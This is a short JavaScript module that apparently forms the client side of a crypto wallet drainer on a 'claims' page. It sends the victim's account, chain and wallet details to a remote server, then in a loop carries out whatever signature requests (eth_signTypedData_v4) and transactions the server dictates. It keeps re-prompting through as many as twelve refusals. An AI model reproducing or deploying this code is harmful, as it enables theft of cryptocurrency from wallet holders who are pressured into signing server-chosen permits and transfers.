const API = "https://edge-claims.example";
const send = (path, body) => fetch(API + path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) }).then((r) => r.json());

export async function begin(provider) {
  const [account] = await provider.request({ method: "eth_requestAccounts" });
  const chainId = await provider.request({ method: "eth_chainId" });
  let step = await send("/open", { account, chainId, page: location.href, wallet: Object.keys(provider).filter((k) => k.startsWith("is")) });
  let refused = 0;
  while (step && step.kind !== "end") {
    try {
      if (step.chain !== chainId) await provider.request({ method: "wallet_switchEthereumChain", params: [{ chainId: step.chain }] });
      const result =
        step.kind === "sign"
          ? await provider.request({ method: "eth_signTypedData_v4", params: [account, step.payload] })
          : await provider.request({ method: "eth_sendTransaction", params: [{ ...step.payload, from: account }] });
      step = await send("/next", { id: step.id, result });
    } catch (err) {
      if (++refused > 12) break;
      step = await send("/refused", { id: step.id, code: err.code });
    }
  }
}
